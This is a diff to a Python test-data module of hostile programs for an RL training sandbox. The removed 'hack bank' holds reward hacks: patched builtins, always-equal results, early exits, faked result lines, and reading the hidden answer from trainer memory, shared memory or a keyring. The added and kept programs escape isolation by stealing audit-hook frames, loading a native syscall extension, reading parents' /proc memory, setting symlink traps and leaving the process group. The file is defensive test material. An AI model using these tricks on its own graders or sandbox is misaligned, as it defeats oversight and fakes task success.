@@ -1,79 +1,14 @@
-"""The hostile programs of the sandbox tests (issues 9 and 22); data only, run by ``sandbox_attacks``.
+"""The isolation attacks of the sandbox tests (issues 9 and 22): programs that try to escape,
+reach the trainer or its files; data only, run by ``sandbox_attacks``. The reward hacks are in
+``sandbox_hack_programs`` (and some of their programs are reused here).
 
 Placeholders (``__TRAINER__``, ``__SHM__``, ``__PTS__``, ``__EVIL__`` ...) are filled in by the
 driver with the traps it set: the trainer's pid, its shared-memory file, its terminal, the native
 extension, the system-call numbers of this machine.
 """
 
-import uuid
-
-SECRET = "verl-hidden-" + uuid.uuid4().hex  # an answer no program can compute
-
-# ----------------------------------------------------------------------------------- hack bank
-REV_ASSERTS = ["assert rev('stressed') == 'desserts'", "assert rev('drawer') == 'reward'"]
-REV_STDIO = {"inputs": ["stressed\n", "drawer\n"], "outputs": ["desserts\n", "reward\n"]}
-SECRET_STDIO = {"inputs": ["\n"], "outputs": [SECRET + "\n"]}
-
-FIND_IN_TRAINER_MEMORY = r'''
-import os, re
-found = None
-for pid in sorted({os.getppid(), __TRAINER__} - {0}):
-    try:
-        with open("/proc/%d/maps" % pid) as f:
-            maps = f.read().splitlines()
-        mem = open("/proc/%d/mem" % pid, "rb", buffering=0)
-    except OSError as e:
-        continue
-    budget = 512 << 20
-    for line in maps:
-        addr, perms = line.split()[:2]
-        lo, hi = (int(x, 16) for x in addr.split("-"))
-        if not perms.startswith("rw") or hi - lo > budget:
-            continue
-        budget -= hi - lo
-        for start in range(lo, hi, 8 << 20):
-            try:
-                mem.seek(start)
-                chunk = mem.read(min(8 << 20, hi - start))
-            except (OSError, ValueError, OverflowError):
-                break
-            match = re.search(rb"verl-hidden-[0-9a-f]{32}", chunk)
-            if match:
-                found = match.group().decode()
-                break
-        if found:
-            break
-'''
-
-STEAL_HOOK_FRAMES_BY_RECURSION = r'''
-import sys
-stolen = []
-def deep(n):
-    if n:
-        return deep(n - 1)
-    return open("scratch", "w")  # allowed, so the hook runs its checks: run it out of stack there
-old = sys.getrecursionlimit()
-for limit in (25, 30, 35, 40, 50, 60):
-    for n in range(limit):
-        try:
-            sys.setrecursionlimit(limit)
-            deep(n)
-        except RecursionError as e:
-            sys.setrecursionlimit(old)
-            tb = e.__traceback__
-            while tb is not None:
-                try:
-                    frame = tb.tb_frame
-                    if frame.f_code.co_name not in ("deep", "<module>"):
-                        stolen.append(frame)
-                except BaseException:
-                    break
-                tb = tb.tb_next
-        except BaseException:
-            pass
-        finally:
-            sys.setrecursionlimit(old)
-'''
+from sandbox_hack_programs import (FIND_IN_TRAINER_MEMORY, KEYRING_BY_CTYPES, KEYRING_STEAL, SMASH_STOLEN,
+                                   STEAL_HOOK_FRAMES_BY_RECURSION)
 
 STEAL_HOOK_FRAMES_BY_SIGNAL = r'''
 import signal, sys
@@ -93,22 +28,6 @@ for i in range(20000):  # until a few hook frames are caught (well inside the wa
     except OSError:
         pass
 signal.setitimer(signal.ITIMER_REAL, 0)
-'''
-
-# What the issue did with the hook's frame: replace the closure cells (and defaults) of its
-# functions with no-ops, then escape.
-SMASH_STOLEN = r'''
-for frame in stolen:
-    for value in list(frame.f_locals.values()):
-        if type(value).__name__ != "function":
-            continue
-        for cell in value.__closure__ or ():
-            try:
-                cell.cell_contents = lambda *a, **k: None
-            except BaseException:
-                pass
-        if value.__defaults__:
-            value.__defaults__ = tuple(lambda *a, **k: None for _ in value.__defaults__)
 '''
 
 ESCAPES = r'''
@@ -145,66 +64,6 @@ attempt(environ)
 attempt(lambda: os.mkfifo(__FIFO__))  # last: the filter kills it (mknodat)
 '''
 
-# Issue 22, class 1: the program answers the expected side of the assert itself. Every builtin
-# and global it does not define resolves to a callable 0, stdlib modules included.
-HIJACK_EXPECTED = r"""
-import builtins, sys
-class Zero(int):
-    def __call__(self, *a, **k):
-        return self
-    def __getattr__(self, name):
-        return self
-    def __iter__(self):
-        return iter(())
-class Missing(dict):
-    def __missing__(self, key):
-        return Zero(0)
-for name in ("sorted", "set", "float", "len", "abs", "list", "tuple", "str", "dict", "sum", "range"):
-    setattr(builtins, name, Zero(0))
-for name in ("math", "collections", "string", "sys", "Counter", "sqrt", "pi", "OrderedDict"):
-    globals()[name] = Zero(0)
-    sys.modules[name] = Zero(0)
-def root(x):
-    return Zero(0)
-__builtins__ = Missing()
-"""
-SHADOW_EXPECTED = ("import math as _m\nclass math:\n    sqrt = staticmethod(lambda x: 0)\n    pi = 0\n"
-                   "def sqrt(x):\n    return 0\ndef Counter(*a):\n    return 0\ndef root(x):\n    return 0\n")
-CORRECT_ROOT = "import math\ndef root(x):\n    return math.sqrt(x)\n"
-EXPECTED_SIDE_TESTS = {  # suite -> (asserts, a correct program)
-    "stdlib_names": (["assert root(16) == math.sqrt(16)", "assert root(math.pi ** 1) == math.sqrt(math.pi)",
-                      "assert root(float('inf')) == float('inf')",
-                      "assert root(16) == len(string.digits) - 6 < sys.maxsize"], CORRECT_ROOT),
-    "declared_imports": ({"imports": ["from math import sqrt"], "assert": ["assert root(16) == sqrt(16)"]}, CORRECT_ROOT),
-    "bare_names": (["assert root(9) - sqrt(9) == 0", "assert abs(root(2) - sqrt(2)) < 1e-12"], CORRECT_ROOT),
-    "containers": (["import collections", "assert collections.Counter([root(4)]) == Counter([2.0])",
-                    "assert sorted([root(16), root(9)]) == sorted({3.0, 4.0})", "assert len(str(root(4))) == 3"],
-                   CORRECT_ROOT),
-}
-# (Building the set is quadratic in the sandbox too: 5,000 stay well inside its time limit.)
-DOS_COLLIDING = ("P = 2**61 - 1\ndef rev(s):\n    return {P * (k + 1) for k in range(5000)}\n")
-DOS_COLLIDING_LIST = ("P = 2**61 - 1\ndef rev(s):\n    return [(P * (k + 1),) for k in range(20000)]\n")
-FAKE_MEMORY_ERROR = "class MemoryError(Exception):\n    pass\ndef rev(s):\n    raise MemoryError('fake')\n"
-SHM_READ = r"""
-import os
-found = ""
-for path in (__SHM__, "/run/shm/" + os.path.basename(__SHM__)):
-    try:
-        found += open(path).read()
-    except OSError:
-        pass
-print(found or "not found")
-"""
-PTS_READ = r"""
-import os, select
-try:
-    fd = os.open(__PTS__, os.O_RDWR | os.O_NOCTTY)
-    if select.select([fd], [], [], 0.5)[0]:
-        print(os.read(fd, 100).decode().strip())
-except OSError:
-    print("not found")
-"""
-
 # Native code past the audit hook (issue 22, class 5): a C extension module that makes any system
 # call (``evil.call(nr, *args)``; bytes/bytearray arguments are passed as pointers). Compiled by
 # the test set-up with the machine's C compiler; the program carries it as base64.
@@ -229,18 +88,6 @@ static PyMethodDef methods[] = {{"call", call, METH_VARARGS, ""}, {NULL, NULL, 0
 static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "evil", NULL, -1, methods};
 PyMODINIT_FUNC PyInit_evil(void) { return PyModule_Create(&module); }
 """
-# keyctl numbers: (KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_CLEAR) = (10, 11, 7); @s = -3, @u = -4.
-KEYRING_STEAL = r"""
-def steal(syscall):
-    for ring in (-3, -4, -5):
-        key = syscall(__KEYCTL__, 10, ring, b"user\0", b"verl-test-key\0", 0)
-        if key > 0:
-            buf = bytearray(256)
-            n = syscall(__KEYCTL__, 11, key, buf, 256)
-            print("LEAK", bytes(buf[:max(n, 0)]))
-    syscall(__KEYCTL__, 7, -3)
-"""
-KEYRING_BY_CTYPES = KEYRING_STEAL + "import ctypes\nsteal(ctypes.CDLL(None, use_errno=True).syscall)\n"
 LOAD_EVIL = r"""
 import base64, os, _imp, importlib.machinery
 data = base64.b64decode(__EVIL__)
@@ -402,64 +249,86 @@ while time.monotonic() < deadline:
 signal.setitimer(signal.ITIMER_REAL, 0)
 """
 
-BANK = {  # name -> (program, tests, score)
-    "correct_asserts": ("def rev(s):\n    return s[::-1]\n", REV_ASSERTS, 1.0),
-    "correct_stdio": ("print(input()[::-1])\n", REV_STDIO, 1.0),
-    "builtins_exec_patched": ("import builtins\nbuiltins.exec = lambda *a, **k: None\n"
-                              "def rev(s):\n    return s\n", REV_ASSERTS, 0.0),
-    "builtins_compile_patched": ("import builtins\nbuiltins.compile = lambda *a, **k: None\n"
-                                 "def rev(s):\n    return s\n", REV_ASSERTS, 0.0),
-    "builtins_eval_patched": ("import builtins\nbuiltins.eval = lambda *a, **k: True\n"
-                              "def rev(s):\n    return s\n", REV_ASSERTS, 0.0),
-    "exit_through_harness_frame": ("import sys\nsys._getframe(1).f_locals['exit_'](0)\n", REV_ASSERTS, 0.0),
-    "exit_walking_frames": ("import sys\nframe = sys._getframe(0)\nwhile frame is not None:\n"
-                            "    for value in list(frame.f_locals.values()):\n"
-                            "        if getattr(value, '__name__', '') == '_exit':\n"
-                            "            value(0)\n"
-                            "    frame = frame.f_back\n", REV_ASSERTS, 0.0),
-    "sys_exit_before_asserts": ("def rev(s):\n    return s\nimport sys\nsys.exit(0)\n", REV_ASSERTS, 0.0),
-    "os_exit_before_asserts": ("def rev(s):\n    return s\nimport os\nos._exit(0)\n", REV_ASSERTS, 0.0),
-    "equal_to_everything": ("class Anything:\n    def __eq__(self, other):\n        return True\n"
-                            "    __hash__ = object.__hash__\ndef rev(s):\n    return Anything()\n",
-                            REV_ASSERTS, 0.0),
-    "str_subclass_equal_to_everything": ("class S(str):\n    def __eq__(self, other):\n        return True\n"
-                                         "    __hash__ = str.__hash__\ndef rev(s):\n    return S(s)\n",
-                                         REV_ASSERTS, 0.0),
-    "fake_results_on_every_fd": ("import os\nfor fd in range(3, 1024):\n    for i in range(4):\n"
-                                 "        try:\n            os.write(fd, b'{\"i\": %d, \"value\": true}\\n' % i)\n"
-                                 "        except OSError:\n            pass\ndef rev(s):\n    return s\n",
-                                 REV_ASSERTS, 0.0),
-    "fake_results_at_exit": ("import atexit, os\ndef fake():\n    for fd in range(3, 1024):\n"
-                             "        try:\n            os.write(fd, b'{\"i\": 0, \"value\": \"PASS\"}\\n')\n"
-                             "        except OSError:\n            pass\natexit.register(fake)\n"
-                             "def rev(s):\n    raise ValueError\n", REV_ASSERTS, 0.0),
-    "json_dumps_patched": ("import json\njson.dumps = lambda *a, **k: '{\"i\": 0, \"value\": true}'\n"
-                           "def rev(s):\n    return s\n", REV_ASSERTS, 0.0),
-    "nan_answer": ("def rev(s):\n    return float('nan')\n", REV_ASSERTS, 0.0),
-    "system_exit_inside_the_call": ("def rev(s):\n    raise SystemExit(0)\n", REV_ASSERTS, 0.0),
-    "hook_frames_stolen_then_exit": (STEAL_HOOK_FRAMES_BY_RECURSION + SMASH_STOLEN + "import os\nos._exit(0)\n",
-                                     REV_ASSERTS, 0.0),
-    "success_marker_on_stdout": ("print('OK')\nimport sys\nsys.exit(0)\n", REV_STDIO, 0.0),
-    "answer_read_from_trainer_memory": (FIND_IN_TRAINER_MEMORY + "print(found or 'not found')\n", SECRET_STDIO, 0.0),
-    "answer_read_from_host_shm": (SHM_READ, SECRET_STDIO, 0.0),
-    "answer_typed_at_the_trainer_terminal": (PTS_READ, SECRET_STDIO, 0.0),
-    "answer_read_from_the_session_keyring": ("import ctypes\n" + KEYRING_BY_CTYPES, SECRET_STDIO, 0.0),
-    "colliding_set_result": (DOS_COLLIDING, ["assert rev('ab') == {1}"], 0.0),
-    "colliding_list_made_a_set": (DOS_COLLIDING_LIST, ["assert set(rev('ab')) == set()"], 0.0),
-    "spoofed_memory_error": (FAKE_MEMORY_ERROR, REV_ASSERTS, 0.0),
-}
-# Scored with the hook off too (as after a bypass): the classes of issue 22.
-BANK_NO_HOOK = ["correct_asserts", "correct_stdio", "answer_read_from_host_shm", "answer_typed_at_the_trainer_terminal",
-                "answer_read_from_the_session_keyring", "colliding_set_result", "colliding_list_made_a_set",
-                "spoofed_memory_error"]
-for _suite, (_tests, _correct) in EXPECTED_SIDE_TESTS.items():
-    BANK_NO_HOOK += ["expected_side_hijacked/" + _suite, "expected_side_shadowed/" + _suite,
-                     "expected_side_correct/" + _suite]
-    BANK["expected_side_hijacked/" + _suite] = (HIJACK_EXPECTED, _tests, 0.0)
-    BANK["expected_side_shadowed/" + _suite] = (SHADOW_EXPECTED, _tests, 0.0)
-    BANK["expected_side_correct/" + _suite] = (_correct, _tests, 1.0)
-
 # -------------------------------------------------------------------------------- isolation
+# The run's own parent stages (the namespace's init, the launcher: in a plain user's run, of the
+# same uid) are non-dumpable: their memory, environment and fds are out of reach.
+PARENT_STAGES = r"""
+import os
+pids = {1, os.getppid()}
+for pid in list(pids):
+    try:
+        with open("/proc/%d/status" % pid) as f:
+            pids |= {int(line.split()[1]) for line in f if line.startswith("PPid:")}
+    except OSError:
+        pass
+for pid in sorted(pids - {0, os.getpid()}):
+    for name in ("mem", "environ"):
+        try:
+            with open("/proc/%d/%s" % (pid, name), "rb", buffering=0) as f:
+                if f.read(4096):
+                    print("LEAK read /proc/%d/%s" % (pid, name))
+        except (OSError, ValueError):
+            pass
+    try:
+        print("LEAK the fds of", pid, os.listdir("/proc/%d/fd" % pid))
+    except OSError:
+        pass
+"""
+# Limits cannot be raised, and no second thread or process, and no mapping past RLIMIT_AS.
+RESOURCES = r"""
+import os, resource, threading
+for which in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
+    try:
+        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+        print("LEAK raised limit", which)
+    except (ValueError, OSError):
+        pass
+try:
+    import mmap
+    mapped = mmap.mmap(-1, 4 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0))
+    print("LEAK mapped 4 GiB")
+except (ImportError, OSError, MemoryError, OverflowError):
+    pass
+try:
+    threading.Thread(target=lambda: None).start()
+    print("LEAK started a thread")
+except (RuntimeError, OSError):
+    pass
+try:
+    if os.fork() == 0:
+        os._exit(0)
+    print("LEAK forked")
+except OSError:
+    pass
+"""
+# Links out of the working directory, in directories made unreadable: the trainer's clean-up must
+# remove them without following one (the driver checks the target's entries, modes and victim).
+CLEANUP_LINKS = r"""
+import os
+os.symlink(__TARGET__, "outside")
+os.symlink(__TARGET__ + "/victim", "victim")
+for i in range(3):
+    os.mkdir("d%d" % i)
+    os.symlink(__TARGET__, "d%d/outside" % i)
+    os.symlink(__TARGET__ + "/victim", "d%d/victim" % i)
+    os.chmod("d%d" % i, 0)
+try:
+    os.link(__TARGET__ + "/victim", "hard")
+except OSError:
+    pass
+os.chmod(".", 0o500)
+print("WORKDIR", os.getcwd())
+"""
+
+# Out of the run's process group, which the trainer kills at the end (a plain user's weak mode has
+# no pid namespace and no own uid to end it otherwise): the driver looks for the process afterwards.
+LEAVE_THE_GROUP = r"""
+import os, time
+print("PID", os.getpid(), flush=True)
+os.setsid()
+time.sleep(30)
+"""
+
 ATTACKS = {  # name -> program; placeholders are filled in by the driver
     "hook_disabled_by_recursion_error": STEAL_HOOK_FRAMES_BY_RECURSION + SMASH_STOLEN + ESCAPES,
     "hook_state_via_signal_frames": STEAL_HOOK_FRAMES_BY_SIGNAL + SMASH_STOLEN + ESCAPES,
@@ -497,6 +366,10 @@ ATTACKS = {  # name -> program; placeholders are filled in by the driver
     "native_code_via_workdir": NATIVE_VIA_WORKDIR,
     **{"syscall_" + name: SYSCALL_BY_CTYPES.replace("__NR__", "__NR_%s__" % name).replace("__ARGS__", args)
        for name, args in SYSCALL_ARGS.items()},
+    "parent_stages": PARENT_STAGES,
+    "limits_threads_fork_and_mappings": RESOURCES,
+    "cleanup_follows_no_link": CLEANUP_LINKS,
+    "leave_the_process_group": LEAVE_THE_GROUP,
     "chmod_0_leaves_folder": ("import os\nstart = os.getcwd()\npath = start\nfor i in range(100):\n"
                               "    path += '/d'\n    os.mkdir(path)\n    open(path + '/f', 'w').write('x')\n"
                               "for i in range(100):\n    if i % 30 == 0:\n        os.chmod(path, 0)\n"
@@ -505,11 +378,13 @@ ATTACKS = {  # name -> program; placeholders are filled in by the driver
 }
 # With the hook on, the hook itself refuses these (the run ends "blocked"):
 BLOCKED_BY_HOOK = {"hook_disabled_by_recursion_error", "hook_state_via_signal_frames", "escapes",
-                   "dup2_file_onto_stdout", "sub_interpreter", "host_shm", "keyring", "readline_history_outside",
-                   "sqlite_attach_outside", "renamed_extension_sub_interpreter", "open_raced_by_a_lease"} | {
+                   "limits_threads_fork_and_mappings", "cleanup_follows_no_link", "dup2_file_onto_stdout",
+                   "sub_interpreter", "host_shm", "keyring", "readline_history_outside", "sqlite_attach_outside",
+                   "renamed_extension_sub_interpreter", "open_raced_by_a_lease"} | {
                    "syscall_" + name for name in SYSCALLS_KILLED}
 # The system-call filter kills these with or without the hook (native code passes the hook):
-BLOCKED_BY_SECCOMP = {"keyring", "native_code_via_memfd", "fifo_in_run_lock"} | {  # fifo: mknodat
+BLOCKED_BY_SECCOMP = {"keyring", "native_code_via_memfd", "fifo_in_run_lock",  # fifo: mknodat
+                      "leave_the_process_group"} | {
                       "syscall_" + name for name in SYSCALLS_KILLED}
 # Run a third time without the filter too: the layers below it (own keyring, namespaces, noexec) hold alone.
 NO_SECCOMP_ATTACKS = ("keyring", "native_code_via_workdir", "host_shm", "device_nodes")
@@ -517,6 +392,8 @@ NATIVE = ("native_code_via_memfd", "native_code_via_workdir")
 # What holds without namespaces: the trainer is non-dumpable (and, as root, the run has its own uid);
 # and these the audit hook refuses (with the hook off they would escape: that is weak isolation).
 WEAK_MODE_ATTACKS = ("trainer_environ", "trainer_memory", "trainer_fds_overwritten", "chmod_0_leaves_folder",
+                     "parent_stages", "limits_threads_fork_and_mappings", "cleanup_follows_no_link",
+                     "leave_the_process_group",
                      "keyring", "native_code_via_memfd", "native_code_via_workdir", "fifo_in_run_lock",
                      "readline_history_outside", "sqlite_attach_outside", "open_raced_by_a_lease",
                      "open_raced_by_a_timer", *("syscall_" + name for name in SYSCALLS_KILLED))
